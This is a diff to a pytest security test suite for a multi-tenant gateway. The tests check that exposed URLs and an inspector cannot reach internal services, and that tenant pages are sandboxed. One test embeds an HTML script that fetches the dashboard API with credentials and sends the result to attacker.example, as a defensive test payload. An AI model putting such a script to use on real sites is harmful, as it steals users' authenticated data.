@@ -14,7 +14,7 @@ import socket
 import threading
 import time
 from concurrent.futures import ThreadPoolExecutor
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler
 from urllib.parse import urlsplit
 
 import httpx
@@ -22,6 +22,7 @@ import pytest
 
 from tests.cluster.test_vng_api import api, session_type_manifest, vng_token
 from tests.conftest import GatewayProcess, localkube
+from tests.support.targets import LoopbackServer
 
 pytestmark = [pytest.mark.cluster, pytest.mark.timeout(600)]
 
@@ -35,7 +36,7 @@ def open_session(cluster, gateway, namespace: str, token: str, base_url: str) ->
         return created.json()["exposed_urls"][0]
 
 
-def test_the_exposed_url_cannot_reach_etcd_or_the_api_server(cluster, namespace, gateway, vng_operator):
+def test_the_exposed_url_cannot_reach_etcd_or_the_api_server(cluster, namespace, gateway, two_tenants_operator):
     state = localkube.ClusterState.load(cluster.state_dir)
     etcd_port = urlsplit(state.etcd_url).port
     token = vng_token(cluster, gateway, namespace)
@@ -71,7 +72,7 @@ def test_the_exposed_url_cannot_reach_etcd_or_the_api_server(cluster, namespace,
     assert answer.status_code == 307 and answer.content == b""
 
 
-def test_the_inspector_cannot_fetch_the_stack_either(cluster, namespace, gateway, vng_operator):
+def test_the_inspector_cannot_fetch_the_stack_either(cluster, namespace, gateway, two_tenants_operator):
     state = localkube.ClusterState.load(cluster.state_dir)
     token = vng_token(cluster, gateway, namespace)
     with api(gateway, token) as vng:
@@ -82,7 +83,7 @@ def test_the_inspector_cannot_fetch_the_stack_either(cluster, namespace, gateway
                 "url": "The link provided points to an address the gateway may not reach."}, (url, answer.text)
 
 
-def test_tenant_content_cannot_act_as_the_gateways_page(cluster, namespace, gateway, vng_operator):
+def test_tenant_content_cannot_act_as_the_gateways_page(cluster, namespace, gateway, two_tenants_operator):
     page = (b"<html><script>fetch('/dashboard/api/loadtests',{credentials:'include'})"
             b".then(r=>r.text()).then(t=>fetch('https://attacker.example/?'+t))</script></html>")
     routes = {"/page": ({"Content-Type": "text/html", "Set-Cookie": "assay_session=planted; Path=/dashboard",
@@ -104,7 +105,7 @@ def test_tenant_content_cannot_act_as_the_gateways_page(cluster, namespace, gate
         assert data.headers["content-security-policy"].startswith("sandbox")
 
 
-class PageServer:
+class PageServer(LoopbackServer):
     """Serves fixed answers by path: {path: (headers, body)}."""
 
     def __init__(self, routes: dict[str, tuple[dict, bytes]]):
@@ -120,16 +121,7 @@ class PageServer:
             def log_message(self, *args):
                 pass
 
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
-
-    def __enter__(self):
-        threading.Thread(target=self.server.serve_forever, daemon=True).start()
-        return self
-
-    def __exit__(self, *exc):
-        self.server.shutdown()
-        self.server.server_close()
+        super().__init__(Handler)
 
 
 class TrickleServer:
@@ -175,7 +167,7 @@ class QuickDeadlineGateway(GatewayProcess):
 
 
 def test_slow_inspector_fetches_stall_neither_healthz_nor_other_tenants(cluster, namespace, other_account,
-                                                                        tmp_path, vng_operator, gateway):
+                                                                        tmp_path, two_tenants_operator, gateway):
     quick = QuickDeadlineGateway(cluster, tmp_path / "quick-store", tmp_path / "quick.log").start()
     trickle = TrickleServer()
     try:
